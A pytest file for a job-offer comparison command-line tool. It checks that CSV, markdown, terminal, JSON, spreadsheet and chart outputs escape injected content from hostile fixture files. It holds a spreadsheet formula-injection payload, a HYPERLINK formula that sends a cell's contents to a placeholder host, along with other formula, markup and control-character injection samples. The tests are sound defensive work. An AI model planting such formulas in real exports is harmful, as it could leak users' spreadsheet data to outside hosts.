"""Issue 11 item 2: no injection in any output format, on real hostile files
(tests/data/hostile/injection.yaml, market_injection.csv, pipeline_injection.yaml)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from toolkit.cli import app

HOSTILE = Path(__file__).parent / "data" / "hostile"
OFFERS = str(HOSTILE / "injection.yaml")
FORMULA_COMPANY = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
runner = CliRunner()


def run(*args):
    return runner.invoke(app, list(args))


def _no_controls(text: str) -> bool:
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", text)


def test_compare_csv_escapes_formula_text_and_keeps_numbers():
    r = run("compare", OFFERS, "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    companies = {row["offer_id"]: row["company"] for row in rows}
    assert companies["formula"] == "'" + FORMULA_COMPANY
    assert companies["rich"] == "Initech [acquired] [/bold] [red]x"
    assert rows[0]["base"] == "150000.0"  # numbers are not prefixed
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")) and not re.match(r"-[^\d]", value)
    raw = run("compare", OFFERS, "--format", "csv", "--no-escape")
    assert {row["offer_id"]: row["company"] for row in csv.DictReader(io.StringIO(raw.stdout))}["formula"] == FORMULA_COMPANY


def test_compare_markdown_cannot_open_a_heading_link_or_fence_nor_break_the_table():
    r = run("compare", OFFERS, "--format", "markdown")
    assert r.exit_code == 0, r.output
    lines = r.stdout.splitlines()
    assert [line for line in lines if line.startswith("#")] == ["# Offer comparison"]
    assert "```" not in r.stdout and not re.search(r"(?<!\\)\]\(http", r.stdout)  # no link can open
    table = [line for line in lines if line.startswith("|")]
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
    assert widths == {8}  # 7 columns: every row has the same number of unescaped pipes
    assert "\\[acquired\\]" in r.stdout and "\\$\\\\nocommand" in r.stdout
    assert _no_controls(r.stdout)


def test_compare_table_prints_markup_as_written_and_no_escape_sequences():
    r = run("compare", OFFERS)
    assert r.exit_code == 0, r.output
    assert "[acquired]" in r.stdout.replace("\n", " ") or "[acquired" in r.stdout  # never parsed as rich markup
    assert "\x1b" not in r.stdout and _no_controls(r.stdout)


def test_compare_json_keeps_text_as_written():
    r = run("compare", OFFERS, "--format", "json")
    doc = json.loads(r.stdout)
    assert {o["id"]: o["company"] for o in doc["offers"]}["formula"] == FORMULA_COMPANY
    assert "\x1b" not in r.stdout  # JSON escapes it as \u001b


def test_market_summary_csv_escapes_and_no_escape_gives_raw():
    path = str(HOSTILE / "market_injection.csv")
    r = run("market", "summary", path, "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert {row["role"] for row in rows} == {"'=1+1", "Initech [acquired] [/bold]"}
    assert "'@SUM(1,2)" in {row["location"] for row in rows} and "'-2+3" in {row["source"] for row in rows}
    raw = run("market", "summary", path, "--format", "csv", "--no-escape")
    assert "=1+1" in {row["role"] for row in csv.DictReader(io.StringIO(raw.stdout))}
    table = run("market", "summary", path)
    assert table.exit_code == 0 and "[/bold]" in table.stdout


def test_negotiate_markdown_and_table():
    md = run("negotiate", OFFERS, "--today", "2026-11-20", "--format", "markdown")
    assert md.exit_code == 0, md.output
    headings = [line for line in md.stdout.splitlines() if line.startswith("#")]
    assert all(not line.startswith("# ") or line == "# Negotiation plan" for line in headings)
    assert not any(re.search(r"(?<!\\)\]\(http", line) for line in headings)
    table = run("negotiate", OFFERS, "--today", "2026-11-20")
    assert table.exit_code == 0 and "\x1b" not in table.stdout and _no_controls(table.stdout)


def test_plan_markdown_fences_hold_and_terminal_is_clean():
    path = str(HOSTILE / "pipeline_injection.yaml")
    md = run("plan", path, "--today", "2026-11-20", "--format", "markdown")
    assert md.exit_code == 0, md.output
    assert "# injected heading" in md.stdout  # inside the draft's fence, as text
    fences = [line for line in md.stdout.splitlines() if line.startswith("```")]
    assert "````text" in fences  # the draft holds ``` so its fence is longer
    assert not any(line.startswith("# injected") for line in md.stdout.split("````text")[0].splitlines())
    table = run("plan", path, "--today", "2026-11-20")
    assert table.exit_code == 0 and "[/bold]" in table.stdout and "\x1b" not in table.stdout


def test_workbook_stores_formula_text_as_text_without_controls(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "report.xlsx"
    r = run("compare", OFFERS, "-o", str(out))
    assert r.exit_code == 0, r.output
    assert "removed" in r.stderr and "control character" in r.stderr  # the ansi company, with a warning
    wb = load_workbook(out)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert _no_controls(c.value.replace("\t", "").replace("\n", "")), (ws.title, c.coordinate)
                    if c.value == FORMULA_COMPANY:
                        assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                        found.append(c.coordinate)
    assert found


def test_template_from_hostile_file_cleans_every_cell(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    r = run("template", str(out), "--from", OFFERS)
    assert r.exit_code == 0, r.output
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    formula_like = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert formula_like and all(c.data_type == "s" and c.quotePrefix for c in formula_like)
    back = run("compare", str(out), "--format", "json")  # and it reads back as the same text
    assert back.exit_code == 0, back.output
    assert {o["id"]: o["company"] for o in json.loads(back.stdout)["offers"]}["formula"] == FORMULA_COMPANY


def test_charts_draw_dollar_ids_as_text(tmp_path):
    r = run("compare", OFFERS, "--charts", str(tmp_path / "charts"))
    assert r.exit_code == 0, r.output
    assert len(list((tmp_path / "charts").glob("*.png"))) >= 3
